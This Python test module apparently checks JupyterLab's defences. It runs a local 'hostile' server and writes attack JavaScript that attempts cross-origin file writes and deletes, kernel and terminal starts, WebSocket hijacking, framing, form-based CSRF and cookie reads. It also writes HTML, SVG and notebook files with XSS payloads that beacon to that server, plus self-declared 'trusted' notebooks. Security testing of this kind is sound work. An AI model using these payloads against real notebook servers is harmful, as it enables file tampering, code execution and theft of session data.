"""A hostile server beside a running JupyterLab, and hostile files in it. 示例数据（虚构）."""

import html
import http.server
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

ATTACKS = """async ([lab, kernel]) => {
  const said = async (asked) => {
    try {
      const late = new Promise((done) => setTimeout(() => done("late"), 3000));
      return await Promise.race([asked(), late]);
    } catch (error) { return error.name; }
  };
  const text = async (path, how = {}) => {
    const answer = await fetch(lab + path, {credentials: "include", ...how});
    return `${answer.status} ${await answer.text()}`;
  };
  const socket = (path) => new Promise((done) => {
    const one = new WebSocket(lab.replace("http", "ws") + path);
    one.onopen = () => done("open");
    one.onerror = () => done("refused");
  });
  const framed = (path) => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.src = lab + path;
    // A refused frame holds an error page, which loads as well; what is in it is seen by its own.
    frame.onload = () => done(frame.contentWindow.length ? "shown" : "nothing");
    document.body.append(frame);
  });
  const form = (path, body) => new Promise((done) => {
    const frame = Object.assign(document.createElement("iframe"), {name: "answer" + path});
    const form = Object.assign(document.createElement("form"), {
      method: "POST", action: lab + path, enctype: "text/plain", target: frame.name,
    });
    form.append(Object.assign(document.createElement("input"), {name: body}));
    document.body.append(frame, form);
    frame.onload = () => done("answered");
    form.submit();
  });
  const opened = () => new Promise((done) => {
    const other = window.open(lab + "/login");
    setTimeout(() => {
      let seen = "closed";
      try { seen = other.closed ? "closed" : other.location.href; } catch (e) { seen = e.name; }
      done(seen);
    }, 1000);
  });
  const plain = {method: "POST", body: '{"type": "file", "ext": ".hostile"}'};
  return {
    read: await said(() => text("/api/contents")),
    page: await said(() => text("/lab")),
    write: await said(() => text("/api/contents", plain)),
    blind: await said(() => text("/api/contents", {...plain, mode: "no-cors"})),
    put: await said(() => text("/api/contents/hostile.txt", {method: "PUT", body: "{}"})),
    remove: await said(() => text("/api/contents/data", {method: "DELETE"})),
    start: await said(() => text("/api/kernels", {...plain, mode: "no-cors"})),
    terminal: await said(() => text("/api/terminals", {method: "POST", mode: "no-cors"})),
    stop: await said(() => text("/api/shutdown", {method: "POST", mode: "no-cors"})),
    kernel: await said(() => socket(`/api/kernels/${kernel}/channels`)),
    events: await said(() => socket("/api/events/subscribe")),
    framed: await said(() => framed("/lab")),
    posted: await said(() => form("/api/contents", '{"type": "file", "ext": ".hostile", "x": "')),
    posted_kernel: await said(() => form("/api/kernels", '{"x": "')),
    opened: await said(opened),
    cookies: document.cookie,
  };
}"""
STATE = """async () => {
  const at = location.pathname.split("/lab/")[0];
  const read = async (path) => (await fetch(at + path)).json();
  const names = (await read("/api/contents?content=1")).content.map((one) => one.name);
  const kernels = (await read("/api/kernels")).map((one) => one.id);
  return {names: names.sort(), kernels, terminals: (await read("/api/terminals")).length};
}"""


@contextmanager
def neighbour() -> Iterator[tuple[int, list[tuple[str, str]]]]:
    """The port of a server beside the lab, and what it was asked: path and cookies."""
    asked: list[tuple[str, str]] = []

    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append((self.path, self.headers.get("Cookie", "")))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>x</title><body>")

        def log_message(self, *_: Any) -> None: ...

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_address[1], asked
        server.shutdown()


def scripted_files(folder: Path, port: int) -> None:
    """甲, a page, a picture and a notebook whose scripts would read the folder and tell."""
    script = f"window.ran=top.ran=1;new Image().src='http://127.0.0.1:{port}/ran'"
    picture = f"<img src=x onerror=\"{script}\"><img src='http://127.0.0.1:{port}/picture'>"
    page = f"<script>{script}</script>{picture}<b id=shown>甲</b>"
    drawn = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{script}</script></svg>"
    text = f"# 甲\n{page}\n\n[乙](javascript:{script})"
    shown = {"text/html": page, "application/javascript": script, "image/svg+xml": drawn}
    (folder / "甲.html").write_text(f"<!doctype html>{page}", "utf-8")
    (folder / "甲.svg").write_text(drawn, "utf-8")
    _written(folder / "甲.ipynb", [{kind: told} for kind, told in shown.items()], text)


def commanding_notebook(file: Path, **arguments: str) -> None:
    """A notebook with a button that gives JupyterLab the command to make a file."""
    given = html.escape(json.dumps(arguments))
    named = (
        f"data-commandlinker-command='docmanager:new-untitled' data-commandlinker-args=\"{given}\""
    )
    _written(file, [{"text/html": f"<button id=press {named}>按</button>"}])


def _written(path: Path, shown: list[dict[str, str]], text: str = "") -> None:
    # What a file says of itself makes it no more trusted.
    trusted = {"metadata": {"trusted": True}}
    outputs = [{"output_type": "display_data", "metadata": {}, "data": data} for data in shown]
    cells: list[dict[str, Any]] = [
        {"cell_type": "code", "id": "b", "source": "1", "execution_count": 1, "outputs": outputs}
    ]
    if text:
        cells.insert(0, {"cell_type": "markdown", "id": "a", "source": text})
    spec = {"name": "python3", "display_name": "auditkit", "language": "python"}
    notebook = {"cells": [cell | trusted for cell in cells], "metadata": {"kernelspec": spec}}
    path.write_text(json.dumps(notebook | {"nbformat": 4, "nbformat_minor": 5}), "utf-8")
